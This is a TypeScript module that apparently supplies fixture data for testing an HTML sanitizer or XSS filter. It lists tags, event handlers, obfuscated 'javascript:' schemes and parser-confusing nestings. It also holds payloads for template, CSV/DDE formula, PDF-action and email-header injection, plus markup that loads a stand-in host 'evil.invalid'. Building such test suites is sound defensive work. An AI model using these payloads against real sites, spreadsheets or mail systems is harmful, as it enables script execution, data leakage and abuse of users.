/** The function that every vector tries to call. */
export const trap = "pwned";
export const host = "evil.invalid";

export const call = `${trap}(1)`;
const away = `//${host}/x`;

export const tags = [
	"img",
	"svg",
	"video",
	"audio",
	"iframe",
	"input",
	"select",
	"textarea",
	"details",
	"object",
	"embed",
	"link",
	"style",
	"script",
	"math",
].concat(...["body", "marquee", "a", "p", "b", "table", "td", "li", "h3", "blockquote", "form", "button", "base", "meta", "dialog", "template", "custom-tag"]);
export const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onpointerover", "onanimationstart", "onbegin", "onclick"];
/** Attributes that trigger event handlers without user action. */
export const nudges = "src=x autofocus tabindex=1 open style=animation-name:a";
export const schemes = [
	"javascript:",
	"JaVaScRiPt:",
	" javascript:",
	"java\tscript:",
	"java\nscript:",
	"\u0001javascript:",
	"java&#115;cript:",
	"&#x6A;avascript:",
	"&#0000106avascript:",
	"javascript&colon;",
	"java&Tab;script:",
	"java&NewLine;script:",
	"javascript://%0a",
	"vbscript:",
	"data:text/html,<script>",
	"data:image/svg+xml,<svg onload=",
	"feed:javascript:",
	"view-source:javascript:",
	"\uFF4Aavascript:",
];
export const places: [string, string][] = [
	["a", "href"],
	["a", "xlink:href"],
	["area", "href"],
	["iframe", "src"],
	["form", "action"],
	["button", "formaction"],
	["input type=submit", "formaction"],
	["object", "data"],
	["embed", "src"],
	["base", "href"],
	["link rel=stylesheet", "href"],
	["img", "src"],
	["video", "poster"],
	["body", "background"],
	["svg><use", "href"],
	["svg><a", "xlink:href"],
	["math><mi", "href"],
	["svg><image", "href"],
	["svg><animate attributeName=href", "values"],
];
export const quotes: [string, string][] = [
	['"', '"'],
	["'", "'"],
	["", ""],
	["`", "`"],
];
export const gaps = [" ", "/", "\t", "\n", "\f", " / ", "\r\n"];

/** The surroundings of a vector: nesting that confuses parsers, or text to break out of. */
export const nestings: [string, string][] = [
	["", ""],
	["<p>", "</p>"],
	["<table>", "</table>"],
	["<table><tr><td>", ""],
	["<ul><li><b><i>", "</b></i>"],
	['">', ""],
	["'>", ""],
	["</p></div></main>", ""],
	["</title>", ""],
	["</textarea>", ""],
	["</script>", ""],
	["</style>", ""],
	["<!-->", ""],
	["<!--", "-->"],
	["<!--!>", ""],
	["--!>", ""],
	["<![CDATA[", "]]>"],
	["<noscript><p title='</noscript>", "'>"],
	["<svg><style>", "</style>"],
	["<svg></p><style><a id='</style>", "'>"],
	["<math><mtext><table><mglyph><style><!--</style>", "-->"],
	["<math><annotation-xml encoding='text/html'>", ""],
	["<svg><foreignObject><p>", "</p>"],
	["<svg><title><style></title>", ""],
	["<form><math><mtext></form><form><mglyph><style></math>", ""],
	["<select><option><style></option></select>", "</style>"],
	["<a href='https://a.example/' title='", "'>x</a>"],
	["<template>", "</template>"],
	["<xmp>", "</xmp>"],
	["<noembed>", "</noembed>"],
	["<<", ">"],
	["<b/", ">"],
	["&lt;p&gt;", "&lt;/p&gt;"],
];

/** Vectors for scripts, lists, addresses and documents instead of markup. */
export const elsewhere = [
	`';${call};'`,
	`"-${call}-"`,
	`\\";${call}//`,
	`\${${call}}`,
	`{{${call}}}`,
	`\\u003cimg src=x onerror=${call}\\u003e`,
	`%3Cscript%3E${call}%3C/script%3E`,
	`"}]}</script><script>${call}</script>`,
	`=HYPERLINK("https://${host}/","x")`,
	`+cmd|' /C calc'!A0`,
	`-1+1|x`,
	`@SUM(1+1)`,
	`\t=1+1`,
	`) Tj ET /OpenAction << /S /JavaScript /JS (${call}) >>`,
	`>> /AA << /O << /S /URI /URI (https://${host}/) >> >>`,
	`[x](javascript:${call})`,
	`x\r\nBcc: a@${host}\r\n\r\n<script>${call}</script>`,
];

/** Vectors that request another host instead of calling the function. */
export const requests = [
	`<img src="${away}">`,
	`<img srcset="${away} 2x">`,
	`<style>@import "${away}";</style>`,
	`<p style="background:url(${away})">x</p>`,
	`<link rel=prefetch href="${away}">`,
	`<meta http-equiv=refresh content="0;url=${away}">`,
	`<iframe src="${away}"></iframe>`,
	`<video><source src="${away}"><track default src="${away}"></video>`,
	`<svg><image href="${away}"/><use href="${away}#x"/></svg>`,
	`<object data="${away}"></object><embed src="${away}">`,
	`<table background="${away}"><tr><td>x</table>`,
	`<base href="${away}">`,
	`<script src="${away}"></script>`,
	`<form action="${away}"><input name=q></form>`,
	`<input type=image src="${away}">`,
	`<iframe srcdoc="<img src='${away}'><script>parent.${call}</script>"></iframe>`,
];
